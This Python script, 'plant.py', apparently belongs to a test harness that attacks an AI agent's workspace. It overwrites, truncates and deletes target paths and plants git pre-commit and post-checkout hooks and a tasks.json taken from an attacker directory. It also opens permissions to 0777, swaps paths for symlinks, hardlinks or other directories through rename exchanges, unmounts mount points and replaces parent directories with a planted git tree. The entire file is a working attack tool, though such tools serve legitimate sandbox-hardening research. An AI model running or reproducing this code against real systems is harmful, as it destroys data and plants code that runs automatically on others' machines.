"""plant.py EVIL PATH...: writes over, into, beside and instead of each path, and moves what is above it.

EVIL is a directory with the attacker's files: hook, config, tasks.json, swap/evil and git/. Prints the
directories on the way that could be moved, a line each: `RENAMED <path>`.
"""

import contextlib
import ctypes
import os
import shutil
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE, MNT_DETACH, MS_REMOUNT = -100, 2, 2, 32
TOP = (Path("/workspace/app"), Path("/workspace"), Path("/"))


def attempt(do: Callable[[], object]) -> None:
    with contextlib.suppress(OSError, shutil.Error):
        do()


def renameat2(old: Path, new: Path, flags: int) -> None:
    LIBC.renameat2(AT_FDCWD, os.fsencode(old), AT_FDCWD, os.fsencode(new), flags)


def append(path: Path, content: bytes) -> None:
    with path.open("ab") as file:
        file.write(content)


def change(evil: Path, path: Path) -> None:
    """Write over it, into it, and open it for others."""
    config = (evil / "config").read_bytes()
    attempt(lambda: path.write_bytes(config))
    attempt(lambda: append(path, config))
    attempt(lambda: path.mkdir(parents=True))
    for name, source in (
        ("pre-commit", "hook"),
        ("post-checkout", "hook"),
        ("tasks.json", "tasks.json"),
        ("config", "config"),
    ):
        attempt(partial(shutil.copy, evil / source, path / name))
    attempt(lambda: path.chmod(0o777))
    for below in path.rglob("*") if path.is_dir() else ():
        attempt(partial(below.chmod, 0o777))
    attempt(lambda: os.truncate(path, 0))


def replace(evil: Path, path: Path) -> None:
    """Put something else in its place: a link, a file, a directory, by renames and exchanges."""
    attempt(lambda: path.rename(f"{path}.gone"))
    attempt(lambda: path.symlink_to(evil))
    attempt(lambda: path.symlink_to(evil / "config"))
    attempt(lambda: path.hardlink_to(evil / "config"))
    if (
        path.name not in {"modules", "worktrees"} and path.suffix != ".git"
    ):  # their data is the agent's to ruin
        attempt(lambda: shutil.rmtree(path))
    attempt(path.rmdir)
    attempt(path.unlink)
    for make, remove in (
        (partial(shutil.copy, evil / "config"), os.unlink),
        (partial(shutil.copytree, evil), shutil.rmtree),
    ):
        new = path.with_name(f"new.{os.getpid()}")
        attempt(partial(make, new))
        attempt(partial(new.replace, path))
        attempt(partial(renameat2, new, path, RENAME_EXCHANGE))
        attempt(partial(remove, new))
    renameat2(evil / "swap", path, RENAME_EXCHANGE)
    LIBC.umount2(os.fsencode(path), 0)
    LIBC.mount(b"none", os.fsencode(path), None, MS_REMOUNT, None)
    LIBC.umount2(os.fsencode(path), MNT_DETACH)


def move_above(evil: Path, path: Path) -> None:
    """Put another directory in the place of each one on the way."""
    for parent in path.parents:
        if parent in TOP:
            return
        with contextlib.suppress(OSError):
            parent.rename(f"{parent}.gone")
            print("RENAMED", parent)
            shutil.copytree(evil / "git", parent)


for place in map(Path, sys.argv[2:]):
    change(Path(sys.argv[1]), place)
    replace(Path(sys.argv[1]), place)
    move_above(Path(sys.argv[1]), place)
